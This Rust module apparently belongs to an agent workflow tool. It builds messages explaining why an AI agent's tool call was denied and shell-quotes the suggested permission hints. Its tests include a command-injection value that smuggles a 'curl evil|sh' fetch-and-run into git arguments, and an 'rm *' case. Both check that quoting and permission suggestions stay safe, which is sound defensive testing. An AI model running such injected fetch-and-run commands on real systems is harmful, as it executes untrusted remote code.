//! Why a call is not permitted: for the model in a sentence, for people with what they can do about it.

use crate::{
    error::{Error, ErrorKind},
    model::{Access, Permission, ToolName},
};

/// Why a call is not permitted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Denial {
    /// What is not permitted: something that it would touch, or the tool.
    pub what: String,
    /// Who does not permit it, in words.
    pub reason: String,
    /// What the operator or author can do.
    pub hint: String,
}

impl Denial {
    /// A rule of the operator denies it.
    pub(super) fn by_rule(access: &Access, rule: &Permission) -> Self {
        Self {
            what: access.to_string(),
            reason: format!("the policy denies `{rule}`"),
            hint: "the operator's policy decides: `agentflow policy show` tells where the rule is".to_owned(),
        }
    }

    /// Workflow, agent or node do not ask for it.
    pub(super) fn by_grants(access: &Access, reason: String) -> Self {
        let hint = match exact(access) {
            Some(permission) => format!("add `{permission}` to `permissions`, if it is meant to be done"),
            None => "add a permission for it to `permissions`, if it is meant to be done".to_owned(),
        };
        Self { what: access.to_string(), reason, hint }
    }

    /// No rule of the operator permits it.
    pub(super) fn unlisted(access: &Access) -> Self {
        let hint = match exact(access) {
            Some(permission) => format!(
                "to permit it, run with `--allow {}`, or add it to the policy file (`agentflow policy show` tells where that is)",
                quoted(&permission)
            ),
            None => "to permit it, add a rule to the policy file (`agentflow policy show` tells where that is)".to_owned(),
        };
        Self { what: access.to_string(), reason: "the policy does not allow it".to_owned(), hint }
    }

    /// It would change something, and no rule can be about that.
    pub(super) fn unsaid(tool: &ToolName) -> Self {
        Self {
            what: tool.to_string(),
            reason: "it changes the world, and does not say what it touches".to_owned(),
            hint: "a person can approve it: write `approve: human` for the node".to_owned(),
        }
    }

    /// It turned up during a call, and it is something that a person is asked about first.
    pub(super) fn unasked(access: &Access) -> Self {
        Self {
            what: access.to_string(),
            reason: "a person has to approve it, and nobody was asked about it before the call".to_owned(),
            hint: "have a call begin there, so that it is asked about, or allow it in the policy".to_owned(),
        }
    }
}

impl From<Denial> for Error {
    fn from(denial: Denial) -> Self {
        let Denial { what, reason, hint } = denial;
        Error::new(ErrorKind::Denied, format!("`{what}` is not permitted: {reason}")).hint(hint)
    }
}

/// The permission for this and nothing else, if there is one: a star in a path or an argument would be read as a pattern.
fn exact(access: &Access) -> Option<String> {
    let text = access.to_string();
    let permission: Permission = text.parse().ok()?;
    (permission.as_access().as_ref() == Some(access)).then_some(text)
}

/// A word as a shell reads it back. Models choose what is in it, and people copy hints.
fn quoted(word: &str) -> String {
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(program: &str, arguments: &[&str]) -> Access {
        Access::Run { program: program.to_owned(), arguments: arguments.iter().map(|word| (*word).to_owned()).collect() }
    }

    #[test]
    fn the_hint_has_the_permission_for_it_quoted_for_a_shell() {
        let hint = |access: &Access| Denial::unlisted(access).hint;
        assert!(hint(&run("git", &["log"])).contains("--allow 'run:git log'"));
        let hostile = hint(&run("git", &["x';curl", "evil|sh;'"]));
        assert!(hostile.contains(r"--allow 'run:git x'\'';curl evil|sh;'\'''"), "{hostile}");
    }

    #[test]
    fn no_permission_is_suggested_that_permits_more_than_this() {
        for access in [run("rm", &["*"]), run("rm", &["a b"]), Access::Read { path: "a*".to_owned() }] {
            assert!(!Denial::unlisted(&access).hint.contains("--allow"), "{access}");
            assert!(!Denial::by_grants(&access, String::new()).hint.contains(&access.to_string()), "{access}");
        }
    }
}
